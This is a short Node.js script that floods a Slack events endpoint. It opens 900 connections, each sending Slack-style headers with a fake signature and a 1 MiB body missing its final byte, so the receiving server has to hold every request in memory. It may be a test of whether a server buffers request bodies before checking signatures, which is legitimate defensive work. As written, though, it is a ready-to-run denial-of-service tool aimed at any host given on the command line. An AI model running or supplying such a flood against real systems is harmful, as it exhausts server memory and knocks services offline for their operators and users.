/**
 * `node flood-bodies.mjs <host> <port>`: 900 requests with headers like Slack's, a signature that is not, and all of a
 * body of 1 MiB but its last byte, so that whoever reads them must hold every one. Says "on" when all are open.
 */
import { connect } from 'node:net';

const [host, port] = process.argv.slice(2);
const timestamp = Math.floor(Date.now() / 1000);
const head = [
  'POST /slack/events HTTP/1.1',
  'host: x',
  `x-slack-request-timestamp: ${timestamp}`,
  `x-slack-signature: v0=${'0'.repeat(64)}`,
  'content-type: application/x-www-form-urlencoded',
  'content-length: 1048576',
  '\r\n',
].join('\r\n');
const body = Buffer.alloc(1_048_575, 97);
let open = 0;
for (let count = 0; count < 900; count += 1) {
  const socket = connect(Number(port), host, () => {
    socket.write(head);
    socket.write(body);
    open += 1;
    if (open === 900) process.stdout.write('on\n');
  });
  socket.on('error', () => {}).resume();
}
